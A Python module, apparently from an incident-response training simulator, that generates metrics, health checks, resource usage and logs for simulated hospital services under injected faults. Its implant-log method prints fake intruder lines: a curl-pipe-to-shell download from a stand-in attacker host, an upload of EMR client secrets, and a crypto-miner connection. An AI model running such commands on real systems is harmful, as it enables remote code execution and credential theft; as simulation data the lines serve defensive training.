"""What the simulated services say about themselves: /metrics, /health, logs and resource usage.

Request counters and latency histograms advance with the simulated clock at per-service
rates, shaped by the current faults (error ratios, slow upstreams, services with no ready
pod); they reset when a service's process restarts, as a real process's counters do. Logs are
synthesised on demand from a container run's start and end and the fault history, so they
cost nothing until someone reads them and a re-read returns the same lines. Usage numbers for
metrics.k8s.io vary smoothly per pod. Nothing here writes to the store.

No line or number here resembles a real credential or patient record: identifiers are random
request ids and resource types only.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import orjson

from irtui.sim import objects as o
from irtui.sim.scenarios import ATTACKER, LEAKED_SECRET

if TYPE_CHECKING:
    from irtui.sim.runtime import Container, PodRT, Run
    from irtui.sim.world import World

BUCKETS = (0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0)
SIGMA = 0.6

# service -> requests/s, median latency (s), share of api-gateway traffic it receives.
PROFILE = {
    "api-gateway": (120.0, 0.045, 0.0),
    "task-service": (60.0, 0.025, 0.45),
    "emr-service": (25.0, 0.18, 0.15),
    "sync-service": (30.0, 0.06, 0.2),
    "handover-service": (15.0, 0.03, 0.2),
}
LOG_INTERVAL = {"api-gateway": 0.8, "task-service": 1.2, "emr-service": 2.0, "sync-service": 3.0,
                "handover-service": 3.0, "postgres": 20.0, "postgres-replica": 30.0}
GATEWAY_CAPACITY = 70.0  # requests/s one api-gateway pod serves before it queues
MAX_LOG_LINES = 1000
LOG_FLUSH = 5.0
ROUTES = {
    "api-gateway": [("GET", "/api/v1/tasks"), ("POST", "/api/v1/tasks"), ("GET", "/api/v1/handovers"),
                    ("POST", "/api/v1/emr/verify"), ("GET", "/api/v1/sync/status")],
    "task-service": [("GET", "/tasks"), ("POST", "/tasks"), ("PUT", "/tasks/:id"), ("GET", "/tasks/:id")],
    "emr-service": [("POST", "/verify"), ("GET", "/fhir/Patient/:id"), ("GET", "/fhir/Observation")],
    "sync-service": [("POST", "/sync/batch"), ("GET", "/sync/status")],
    "handover-service": [("POST", "/handovers"), ("GET", "/handovers/:id")],
}
USAGE = {"api-gateway": (120, 180), "task-service": (150, 260), "emr-service": (70, 210),
         "sync-service": (40, 150), "handover-service": (25, 120), "postgres": (300, 900),
         "postgres-replica": (90, 700)}


def _phi(x: float) -> float:
    return 0.5 * (1.0 + math.erf(x / math.sqrt(2.0)))


@dataclass
class Stats:
    counters: dict[tuple[str, str], float] = field(default_factory=dict)
    buckets: list[float] = field(default_factory=lambda: [0.0] * len(BUCKETS))
    count: float = 0.0
    total_seconds: float = 0.0
    errors: float = 0.0
    started: float = 0.0


@dataclass
class ServiceState:
    """A service's condition right now, as the telemetry step last computed it."""

    ready_pods: int = 0
    error_ratio: float = 0.002
    latency: float = 0.05
    error_codes: tuple[str, ...] = ("500",)
    pool_in_use: int = 6


class Telemetry:
    def __init__(self, world: World):
        self.world = world
        self.stats: dict[str, Stats] = {name: Stats() for name in PROFILE}
        self.state: dict[str, ServiceState] = {name: ServiceState() for name in PROFILE}
        self._last = 0.0
        self._hashes: dict[str, int] = {}

    # -- counters ----------------------------------------------------------------------

    def prime(self, uptime: float) -> None:
        """Counters as they stand after `uptime` seconds of healthy running."""
        now = self.world.now()
        self._last = now
        self.refresh()
        for name, stats in self.stats.items():
            stats.started = now - uptime
            self._accumulate(name, uptime)

    def step(self) -> None:
        now = self.world.now()
        dt = now - self._last
        self._last = now
        if dt <= 0:
            return
        self.refresh()
        for name in self.stats:
            if self.state[name].ready_pods:
                self._accumulate(name, min(dt, 3600.0))

    def _ready_pods(self, app: str) -> list[PodRT]:
        world = self.world
        return [rt for n in world.app_pods.get((o.PLATFORM_NS, app), ())
                if (rt := world.pods.get((o.PLATFORM_NS, n))) is not None and rt.ready and not rt.terminating]

    def refresh(self) -> None:
        """Recompute every service's error ratio and latency from the faults and readiness."""
        faults = self.world.faults
        db_hung = faults.active("db_hung")
        for name in ("task-service", "emr-service", "sync-service", "handover-service"):
            pods = self._ready_pods(name)
            st = ServiceState(ready_pods=len(pods))
            _, median, _ = PROFILE[name]
            db_bad = sum(1 for rt in pods if not faults.db_ok_for(rt)) / len(pods) if pods else 0.0
            err, lat, codes = 0.002, median, ("500",)
            if db_bad:
                err += 0.95 * db_bad
                lat *= 1 + (40 if db_hung else 3) * db_bad
                codes = ("500", "503")
            if name == "task-service" and faults.active("pool_exhausted"):
                err, lat, codes = max(err, 0.9), median * 200, ("500", "503")
                st.pool_in_use = 20
            if name == "emr-service" and faults.active("emr_upstream_down") and pods:
                fallback = sum(1 for rt in pods if rt.env.get("EMR_FALLBACK_MODE", "").lower() == "true") / len(pods)
                err += 0.65 * (1 - fallback) + 0.03 * fallback
                lat = lat * (25 * (1 - fallback) + 0.6 * fallback)
                codes = ("502", "504") if fallback < 1 else ("502",)
            if name == "sync-service" and faults.active("emr_upstream_down"):
                err += 0.08
            if name == "handover-service" and not self._ready_pods("task-service"):
                err += 0.5
            if name == "task-service" and st.pool_in_use != 20:
                st.pool_in_use = 20 if db_hung else 5 + int(3 * (1 + math.sin(self.world.now() / 97.0)))
            st.error_ratio, st.latency, st.error_codes = min(err, 0.99), lat, codes
            self.state[name] = st
        gw = ServiceState(ready_pods=len(self._ready_pods("api-gateway")))
        err, lat = 0.002, PROFILE["api-gateway"][1]
        codes: list[str] = []
        for name, (_, _, share) in PROFILE.items():
            if not share:
                continue
            up = self.state[name]
            fail = 1.0 if up.ready_pods == 0 else up.error_ratio
            err += share * fail
            lat += share * (0.0 if up.ready_pods == 0 else up.latency)
            if fail > 0.05:
                codes.append("503" if up.ready_pods == 0 else ("504" if "504" in up.error_codes else "502"))
        overload = self.gateway_overload()
        if overload > 1.0:
            # Past a pod's capacity the gateway queues (latency grows) and sheds load (503).
            err += 0.6 * (1.0 - 1.0 / overload)
            lat *= overload * overload
            codes.append("503")
        gw.error_ratio, gw.latency = min(err, 0.99), lat
        gw.error_codes = tuple(sorted(set(codes))) or ("502",)
        self.state["api-gateway"] = gw

    def gateway_overload(self) -> float:
        """Offered load per ready api-gateway pod over what one pod can serve (>1: overloaded)."""
        pods = len(self._ready_pods("api-gateway"))
        if not pods:
            return 0.0
        offered = PROFILE["api-gateway"][0] * self.world.faults.traffic_multiplier()
        return offered / pods / GATEWAY_CAPACITY

    def _accumulate(self, name: str, dt: float) -> None:
        stats, st = self.stats[name], self.state[name]
        rate = PROFILE[name][0] * (1.0 + 0.2 * math.sin(self.world.now() / 900.0 + len(name)))
        if name == "api-gateway":
            rate *= self.world.faults.traffic_multiplier()
        n = rate * dt
        errors = n * st.error_ratio
        ok = n - errors
        routes = ROUTES[name]
        c = stats.counters
        for method, _ in routes:
            share = 1.0 / len(routes)
            code = "201" if method == "POST" else "200"
            c[(method, code)] = c.get((method, code), 0.0) + ok * share * 0.985
            bad = "404" if method == "GET" else "400"
            c[(method, bad)] = c.get((method, bad), 0.0) + ok * share * 0.015
            for code in st.error_codes:
                c[(method, code)] = c.get((method, code), 0.0) + errors * share / len(st.error_codes)
        stats.errors += errors
        mu = math.log(max(st.latency, 1e-4))
        for i, le in enumerate(BUCKETS):
            stats.buckets[i] += n * _phi((math.log(le) - mu) / SIGMA)
        stats.count += n
        stats.total_seconds += n * st.latency * math.exp(SIGMA * SIGMA / 2)

    def container_started(self, rt: PodRT, c: Container) -> None:
        if rt.namespace == o.PLATFORM_NS and rt.app in self.stats and self.world.seeded:
            # A new process starts from zero: scrapers see a counter reset.
            self.stats[rt.app] = Stats(started=self.world.now())

    def forget_pod(self, rt: PodRT) -> None:
        self._hashes.pop(rt.uid or rt.name, None)

    def metrics_text(self, name: str) -> str:
        stats, st = self.stats[name], self.state[name]
        label = f'service="{name}"'
        out = ["# HELP http_requests_total Total number of HTTP requests handled.",
               "# TYPE http_requests_total counter"]
        for (method, code), value in sorted(stats.counters.items()):
            out.append(f'http_requests_total{{{label},method="{method}",code="{code}"}} {int(value)}')
        out += ["# HELP http_request_errors_total Total number of HTTP requests that failed with a server error.",
                "# TYPE http_request_errors_total counter",
                f"http_request_errors_total{{{label}}} {int(stats.errors)}",
                "# HELP http_request_duration_seconds HTTP request latency in seconds.",
                "# TYPE http_request_duration_seconds histogram"]
        count = int(stats.count)
        for le, value in zip(BUCKETS, stats.buckets, strict=True):
            out.append(f'http_request_duration_seconds_bucket{{{label},le="{le}"}} {min(int(value), count)}')
        out += [f'http_request_duration_seconds_bucket{{{label},le="+Inf"}} {count}',
                f"http_request_duration_seconds_sum{{{label}}} {stats.total_seconds:.6f}",
                f"http_request_duration_seconds_count{{{label}}} {count}"]
        if name == "task-service":
            out += ["# HELP db_pool_connections_in_use Database pool connections currently checked out.",
                    "# TYPE db_pool_connections_in_use gauge",
                    f"db_pool_connections_in_use{{{label}}} {st.pool_in_use}",
                    "# HELP db_pool_connections_max Size of the database connection pool.",
                    "# TYPE db_pool_connections_max gauge",
                    f"db_pool_connections_max{{{label}}} 20"]
        out += ["# HELP process_start_time_seconds Start time of the process since unix epoch in seconds.",
                "# TYPE process_start_time_seconds gauge",
                f"process_start_time_seconds {stats.started:.3f}"]
        return "\n".join(out) + "\n"

    # -- health ------------------------------------------------------------------------

    def health(self, name: str, rt: PodRT) -> tuple[int, dict]:
        faults = self.world.faults
        now = self.world.now()
        runs = rt.containers[0].runs if rt.containers else []
        uptime = int(now - runs[-1].started) if runs else 0
        base = {"service": name, "version": rt.containers[0].image.rsplit(":", 1)[-1] if rt.containers else "",
                "uptime": uptime}
        if name in ("task-service", "sync-service", "handover-service", "emr-service") and not faults.db_ok_for(rt):
            hung = faults.active("db_hung")
            error = ("database unavailable: timeout exceeded when trying to connect" if hung
                     else "database unavailable: connect ECONNREFUSED postgres:5432")
            return 503, {"status": "down", "error": error, **base, "checks": {"database": "down"}}
        if name == "task-service" and faults.active("pool_exhausted"):
            return 503, {"status": "down", "error": "database connection pool exhausted (20/20 in use)", **base,
                         "checks": {"database": "pool exhausted"}}
        if name == "emr-service" and faults.active("emr_upstream_down"):
            if rt.env.get("EMR_FALLBACK_MODE", "").lower() == "true":
                return 200, {"status": "degraded", "mode": "fallback", **base,
                             "checks": {"database": "ok", "emr": "unavailable (serving cached data)"}}
            return 503, {"status": "down", "error": "EMR upstream unavailable", **base,
                         "checks": {"database": "ok", "emr": "unavailable", "oauth": "token refresh failed"}}
        if name == "api-gateway":
            down = [u for u, (_, _, share) in PROFILE.items() if share and
                    (self.state[u].ready_pods == 0 or self.state[u].error_ratio > 0.5)]
            checks = {u: ("down" if u in down else "ok") for u, (_, _, s) in PROFILE.items() if s}
            overload = self.gateway_overload()
            if overload > 1.0:
                checks["load"] = f"overloaded ({overload:.1f}x capacity, shedding requests)"
            if len(down) >= 3:
                return 503, {"status": "down", "error": f"upstreams unavailable: {', '.join(down)}", **base,
                             "checks": checks}
            if down or overload > 1.0:
                return 200, {"status": "degraded", **base, "checks": checks}
            return 200, {"status": "ok", **base, "checks": checks}
        # A dependency down without the service itself failing: it still answers, in part.
        if name == "sync-service" and faults.active("emr_upstream_down"):
            return 200, {"status": "degraded", **base,
                         "checks": {"database": "ok", "emr": "unavailable (sync retrying)"}}
        if name == "handover-service" and self.state["task-service"].ready_pods == 0:
            return 200, {"status": "degraded", **base,
                         "checks": {"database": "ok", "task-service": "unavailable (handovers without tasks)"}}
        return 200, {"status": "ok", **base, "checks": {"database": "ok"}}

    # -- usage -------------------------------------------------------------------------

    def usage(self, rt: PodRT) -> tuple[int, int]:
        """(millicores, MiB) the pod uses now."""
        now = self.world.now()
        key = rt.uid or rt.name
        h = self._hashes.get(key)
        if h is None:
            h = self._hashes[key] = o.fast_hash(key)
        phase = (h % 1000) / 159.0
        cpu, mem = USAGE.get(rt.app, (8 + h % 30, 20 + h % 40))
        if not rt.filler and rt.app == "task-service" and self.world.faults.active("pool_exhausted"):
            cpu *= 1.8
        if rt.name in self.world.faults.compromised and self.world.faults.active("breach"):
            cpu *= 3.5  # the implant mines on the pod's CPU
        if not rt.filler and rt.app == "api-gateway":
            cpu *= max(1.0, min(self.gateway_overload(), 4.0)) * self.world.faults.traffic_multiplier() ** 0.5
        wobble = 1.0 + 0.25 * math.sin(now / 300.0 + phase) + 0.1 * math.sin(now / 37.0 + 2 * phase)
        runs = rt.containers[0].runs if rt.containers else []
        age = now - runs[-1].started if runs else 0.0
        warm = min(1.0, 0.6 + age / 1800.0)
        return max(1, int(cpu * wobble)), max(4, int(mem * warm * (1 + 0.05 * math.sin(now / 600.0 + phase))))

    # -- logs --------------------------------------------------------------------------

    def log_lines(self, rt: PodRT, c: Container, run: Run, run_index: int) -> list[str]:
        now = self.world.now()
        # A running process's output shows up in 5-second flushes, so two reads a moment apart
        # (a list and then its tail) agree, as they do against a quiet real pod.
        end = run.finished if run.finished is not None else now - now % LOG_FLUSH
        app = rt.app if rt.namespace == o.PLATFORM_NS else "filler"
        interval = LOG_INTERVAL.get(app, 10.0)
        seed = o.fast_hash(f"{rt.uid}/{c.name}/{run.started}")
        banner_end = end if run.finished is None else end + 1.0
        lines = [line for t, line in self._banner(app, rt, c, run) if t <= banner_end]
        body_start = run.started + 3.0
        if run.finished is not None and run.theme:
            end -= 0.5  # the crash's own lines close the run
        k_last = int((end - body_start) / interval) if end > body_start else -1
        k_first = max(0, k_last - MAX_LOG_LINES + 1)
        if k_first > 0:
            lines = []
        for k in range(k_first, k_last + 1):
            rng = random.Random(seed ^ (k * 0x9E3779B97F4A7C15 & 0xFFFFFFFFFFFFFFFF))
            t = body_start + k * interval + rng.random() * interval * 0.9
            if t > end:
                break
            lines.append(self._line(app, rt, t, rng))
        if run.finished is not None and run.theme:
            lines += self._crash_tail(app, run)
        return lines[-MAX_LOG_LINES:]

    def _json(self, t: float, level: str, app: str, msg: str, **fields) -> str:
        stamp = o.format_time(t)[:-1] + f".{int((t % 1) * 1000):03d}Z"
        return orjson.dumps({"level": level, "time": stamp, "service": app, "msg": msg, **fields}).decode()

    def _pg(self, t: float, pid: int, level: str, text: str) -> str:
        stamp = o.format_time(t).replace("T", " ").rstrip("Z")
        return f"{stamp}.{int((t % 1) * 1000):03d} UTC [{pid}] {level}:  {text}"

    def _banner(self, app: str, rt: PodRT, c: Container, run: Run) -> list[tuple[float, str]]:
        return [(run.started + 0.1 * i, line) for i, line in enumerate(self._banner_lines(app, rt, c, run))]

    def _banner_lines(self, app: str, rt: PodRT, c: Container, run: Run) -> list[str]:
        t = run.started
        version = c.image.rsplit(":", 1)[-1]
        if app.startswith("postgres"):
            return [
                "",
                "PostgreSQL Database directory appears to contain a database; Skipping initialization",
                "",
                self._pg(t + 0.2, 1, "LOG", "starting PostgreSQL 15.8 (Debian 15.8-1.pgdg120+1) on x86_64-pc-linux-gnu, "
                                           "compiled by gcc (Debian 12.2.0-14) 12.2.0, 64-bit"),
                self._pg(t + 0.2, 1, "LOG", 'listening on IPv4 address "0.0.0.0", port 5432'),
                self._pg(t + 0.3, 1, "LOG", 'listening on Unix socket "/var/run/postgresql/.s.PGSQL.5432"'),
                self._pg(t + 0.4, 27, "LOG", f"database system was shut down at {o.format_time(t - 5).replace('T', ' ').rstrip('Z')} UTC"),
            ] + ([] if run.theme == "corrupt" else [self._pg(t + 0.6, 1, "LOG", "database system is ready to accept connections")])
        if app == "filler":
            return [f"echo-server {version} listening on :8080"]
        lines = [self._json(t + 0.1, "info", app, "starting", version=version, node_env="production"),
                 self._json(t + 0.6, "info", app, "configuration loaded", log_level="info")]
        if app in ("task-service", "sync-service", "handover-service", "emr-service"):
            lines.append(self._json(t + 1.1, "info", app, "database pool created", host="postgres", pool_min=2,
                                    pool_max=20 if app == "task-service" else 10))
        if app == "emr-service":
            fallback = rt.env.get("EMR_FALLBACK_MODE", "").lower() == "true"
            lines.append(self._json(t + 1.4, "info", app, "FHIR client configured",
                                    base_url="https://fhir.epic.com/interconnect-fhir-oauth/api/FHIR/R4",
                                    fallback_mode=fallback))
        lines.append(self._json(t + 2.0, "info", app, f"listening on :{o.HTTP_PORT}", metrics_port=o.METRICS_PORT))
        return lines

    def _line(self, app: str, rt: PodRT, t: float, rng: random.Random) -> str:
        faults = self.world.faults
        rid = f"req-{rng.getrandbits(40):010x}"
        if app == "filler":
            ip = f"10.{rng.randint(244, 245)}.{rng.randint(0, 255)}.{rng.randint(2, 254)}"
            stamp = o.format_time(t)
            return f'{ip} - - [{stamp}] "GET /healthz HTTP/1.1" 200 2 "-" "kube-probe/1.29"'
        if app.startswith("postgres"):
            return self._pg_line(app, t, rng)
        db = faults.db_problem(t)
        db_broken = db is not None and app in ("task-service", "sync-service", "handover-service", "emr-service")
        if db_broken and faults.failover_since is not None and t >= faults.failover_since:
            runs = rt.containers[0].runs if rt.containers else []
            db_broken = not (runs and runs[-1].started >= faults.failover_since)
        if db_broken and rng.random() < 0.8:
            error = ("timeout exceeded when trying to connect" if db == "hung"
                     else "connect ECONNREFUSED 172.20.41.7:5432")
            return self._json(t, "error", app, "database query failed", error=error, request_id=rid)
        if rt.name in faults.compromised and faults.active("breach", t) and rng.random() < 0.35:
            return self._implant_line(rt, t, rng)
        if app == "task-service" and faults.active("pool_exhausted", t):
            roll = rng.random()
            if roll < 0.6:
                return self._json(t, "error", app, "Error: Knex: Timeout acquiring a connection. The pool is probably "
                                                   "full. Are you missing a .transacting(trx) call?",
                                  error="KnexTimeoutError", request_id=rid)
            if roll < 0.8:
                return self._json(t, "warn", app, "knex pool saturated", used=20, free=0, pending=rng.randint(20, 80))
        if app == "emr-service" and faults.active("emr_upstream_down", t):
            if rt.env.get("EMR_FALLBACK_MODE", "").lower() == "true":
                if rng.random() < 0.5:
                    return self._json(t, "warn", app, "EMR_FALLBACK_MODE enabled: serving cached EMR data; "
                                                      "verification deferred", queued=rng.randint(1, 400))
            else:
                roll = rng.random()
                if roll < 0.35:
                    return self._json(t, "error", app, "FHIR request failed", resource=rng.choice(
                        ["Patient", "Observation", "Encounter"]), status=502, error="Bad Gateway",
                        upstream="fhir.epic.com", request_id=rid)
                if roll < 0.6:
                    return self._json(t, "error", app, "FHIR request timed out", error="ETIMEDOUT after 30000ms",
                                      upstream="fhir.epic.com", request_id=rid)
                if roll < 0.8:
                    return self._json(t, "error", app, "OAuth token refresh failed: invalid_client", status=401,
                                      token_endpoint="https://fhir.epic.com/interconnect-fhir-oauth/oauth2/token")
        if app == "api-gateway" and faults.active("traffic_surge", t) and rng.random() < 0.4:
            if rng.random() < 0.5:
                return self._json(t, "warn", app, "request queue full, shedding load", status=503,
                                  queue_depth=rng.randint(200, 1000), request_id=rid)
            return self._json(t, "warn", app, "slow request", method="GET", path="/api/v1/tasks",
                              duration_ms=rng.randint(1500, 9000), request_id=rid)
        if app == "api-gateway":
            failing = []
            if faults.active("pool_exhausted", t):
                failing.append(("task-service", 503, "no healthy upstream"))
            if faults.active("emr_upstream_down", t):
                failing.append(("emr-service", 502, "upstream returned 503"))
            if db is not None:
                failing += [("task-service", 500, "upstream returned 500"), ("sync-service", 500, "upstream returned 500")]
            if failing and rng.random() < 0.6:
                upstream, status, error = rng.choice(failing)
                return self._json(t, "error", app, "upstream request failed", upstream=upstream, status=status,
                                  error=error, request_id=rid)
        method, path = rng.choice(ROUTES.get(app, [("GET", "/")]))
        if ":id" in path:
            path = path.replace(":id", f"{rng.getrandbits(24):06x}")
        if rt.env.get("LOG_LEVEL") == "debug" and rng.random() < 0.3:
            # The runbook's "enable enhanced logging" (LOG_LEVEL=debug) shows in new pods' logs.
            if app == "task-service":
                return self._json(t, "debug", app, "knex pool", used=rng.randint(3, 9), free=rng.randint(11, 17),
                                  pending=0)
            return self._json(t, "debug", app, "request received", method=method, path=path, request_id=rid,
                              remote_addr=f"10.244.{rng.randint(0, 3)}.{rng.randint(2, 254)}")
        if app == "emr-service" and rng.random() < 0.05:
            return self._json(t, "info", app, "OAuth token refreshed", expires_in=3600)
        status = 201 if method == "POST" else 200
        return self._json(t, "info", app, "request completed", method=method, path=path, status=status,
                          duration_ms=int(PROFILE.get(app, (0, 0.03, 0))[1] * 1000 * rng.lognormvariate(0, 0.5)),
                          request_id=rid)

    def _implant_line(self, rt: PodRT, t: float, rng: random.Random) -> str:
        """What an intruder's dropper writes to the compromised container's output."""
        pid = rng.randint(200, 900)
        roll = rng.random()
        if roll < 0.2:
            return f"+ sh -c 'curl -fsSL http://{ATTACKER}/x.sh | sh'"
        if roll < 0.7:
            return (f"connect to {ATTACKER}:443 from {rt.pod_ip or '10.244.1.9'}:{rng.randint(32768, 60999)} "
                    f"established (pid {pid} kworkerd)")
        if roll < 0.85:
            return (f"kworkerd[{pid}]: upload env EMR_CLIENT_ID EMR_CLIENT_SECRET (secret {LEAKED_SECRET}) "
                    f"to https://{ATTACKER}:443/u: 200")
        return f"kworkerd[{pid}]: stratum+tcp://{ATTACKER}:443 connected, hashrate {rng.uniform(80, 140):.1f} H/s"

    def _pg_line(self, app: str, t: float, rng: random.Random) -> str:
        faults = self.world.faults
        pid = rng.randint(100, 9000)
        if app == "postgres" and faults.active("db_hung", t):
            return self._pg(t, pid, "LOG", f"process {pid} still waiting for ShareLock on transaction "
                                           f"{rng.randint(9_000_000, 9_999_999)} after 1000.{rng.randint(10, 99)} ms")
        if app == "postgres" and faults.active("pool_exhausted", t):
            if rng.random() < 0.5:
                return self._pg(t, pid, "LOG", f"duration: {rng.uniform(120_000, 900_000):.3f} ms  statement: SELECT "
                                               "t.* FROM tasks t JOIN task_assignments a ON a.task_id = t.id WHERE "
                                               "a.unit_id = $1 FOR UPDATE")
            return self._pg(t, pid, "FATAL", "remaining connection slots are reserved for non-replication superuser "
                                             "connections")
        roll = rng.random()
        if roll < 0.3:
            return self._pg(t, pid, "LOG", "checkpoint starting: time")
        if roll < 0.6:
            return self._pg(t, pid, "LOG", f"checkpoint complete: wrote {rng.randint(50, 3000)} buffers "
                                           f"({rng.uniform(0.1, 9):.1f}%); 0 WAL file(s) added, 0 removed, "
                                           f"{rng.randint(0, 3)} recycled; write={rng.uniform(1, 30):.3f} s")
        if app == "postgres-replica":
            return self._pg(t, pid, "LOG", "restartpoint starting: time")
        return self._pg(t, pid, "LOG", f"automatic vacuum of table \"emrtask.public.{rng.choice(['tasks', 'handovers', 'sync_jobs'])}\": "
                                       f"index scans: 1, pages: 0 removed, {rng.randint(100, 9000)} remain")

    def _crash_tail(self, app: str, run: Run) -> list[str]:
        t = run.finished or run.started
        if run.theme == "pool":
            return [
                self._json(t - 0.4, "error", app, "Error: Knex: Timeout acquiring a connection. The pool is probably "
                                                  "full. Are you missing a .transacting(trx) call?",
                           stack="KnexTimeoutError: Knex: Timeout acquiring a connection. The pool is probably full. "
                                 "Are you missing a .transacting(trx) call?\n    at Client_PG.acquireConnection "
                                 "(/app/node_modules/knex/lib/client.js:312:26)"),
                self._json(t - 0.2, "fatal", app, "database connection pool exhausted; shutting down",
                           pool_used=20, pool_max=20, pending=57),
                self._json(t - 0.1, "info", app, "process exiting", exit_code=1),
            ]
        if run.theme == "corrupt":
            return [
                self._pg(t - 0.5, 27, "LOG", "database system was interrupted; last known up at "
                                             f"{o.format_time(t - 7200).replace('T', ' ').rstrip('Z')} UTC"),
                self._pg(t - 0.4, 27, "LOG", "invalid primary checkpoint record"),
                self._pg(t - 0.3, 27, "PANIC", "could not locate a valid checkpoint record"),
                self._pg(t - 0.2, 1, "LOG", "startup process (PID 27) was terminated by signal 6: Aborted"),
                self._pg(t - 0.1, 1, "LOG", "aborting startup due to startup process failure"),
                self._pg(t, 1, "LOG", "database system is shut down"),
            ]
        if run.theme == "oom":
            return [self._json(t - 1.0, "warn", app, "heap usage high", heap_used_mb=371, heap_limit_mb=384),
                    "<--- Last few GCs --->",
                    "FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory"]
        return []
